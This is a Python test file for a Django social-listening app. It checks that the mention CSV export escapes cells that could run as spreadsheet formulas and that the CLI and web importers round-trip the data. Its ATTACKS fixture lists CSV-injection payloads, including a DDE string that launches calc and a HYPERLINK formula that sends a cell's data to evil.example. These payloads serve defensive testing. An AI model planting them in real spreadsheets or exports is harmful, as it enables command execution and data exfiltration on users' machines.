"""The mention export as CSV: text and names from outside can't run as spreadsheet formulas
(CSV injection), and both of koers' mention imports read the export back unchanged."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse
from django.utils import timezone

from koers.listening.importing import read_posts
from koers.listening.models import Mention
from koers.listening.pipeline import Pipeline
from koers.listening.tests.conftest import make_post
from koers.networks.files import import_rows, mapping_from, read_table

pytestmark = pytest.mark.django_db

ATTACKS = [
    ("=cmd|' /C calc'!A0 acme", '=HYPERLINK("https://evil.example/?"&A1,"klik")'),
    ("@SUM(1+1)*cmd|' /C calc'!A0 acme", "+1+1"),
    ("-2+3 acme", "-2+3"),
    ("\t=1+1 acme", "\t=1+1"),
    ("'=1+1 acme blijft met apostrof", "@jan"),
]


@pytest.fixture
def hostile_mentions(acme, acme_topics):
    posts = [
        make_post(
            text, author_name=name, author_handle="@eve@social.example", created_at=timezone.now()
        )  # fmt: skip
        for text, name in ATTACKS
    ]
    Pipeline(acme).ingest(posts)
    mentions = list(Mention.objects.filter(workspace=acme).order_by("pk"))
    assert len(mentions) == len(ATTACKS)
    return mentions


def export(client) -> bytes:
    response = client.get(reverse("listening:export-csv", args=["acme"]))
    return b"".join(response.streaming_content)


def test_mention_text_and_author_names_are_exported_as_text_not_formulas(
    client_for, anna, hostile_mentions
):
    rows = list(csv.reader(io.StringIO(export(client_for(anna)).decode(), newline="")))
    header, *body = rows
    assert len(body) == len(ATTACKS)
    cells = [cell for row in body for cell in row]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
    text, name = header.index("text"), header.index("author_name")
    assert {row[text] for row in body} >= {"'=cmd|' /C calc'!A0 acme", "'-2+3 acme"}
    assert {row[name] for row in body} >= {"'+1+1", "'-2+3", "'@jan"}


def test_the_exported_csv_imports_with_the_original_texts_and_names(
    client_for, anna, hostile_mentions
):
    data = export(client_for(anna))
    stored = {(m.remote_id, m.text, m.author_handle, m.author_name) for m in hostile_mentions}

    # `koers import FILE.csv --map id=remote_id,created_at=published_at`
    mapping = {"id": "remote_id", "created_at": "published_at"}
    cli = [post for _ref, post in read_posts(io.BytesIO(data), "csv", mapping)]
    assert {(p.remote_id, p.text, p.author_handle, p.author_name) for p in cli} == stored

    # The import page: read, map (the page's suggestion), import.
    table = read_table(data, "koers-mentions-acme.csv")
    columns = {name: name for name in ("text", "author", "author_name", "url", "network")}
    columns |= {"date": "published_at", "id": "remote_id"}
    result = import_rows(table, mapping_from(columns, table.columns))
    assert result.errors == ()
    # (The import page trims the blanks around every cell, so the tab before a name goes.)
    trimmed = {(r, t, h, n.strip()) for r, t, h, n in stored}
    assert {(p.remote_id, p.text, p.author_handle, p.author_name) for p in result.posts} == trimmed
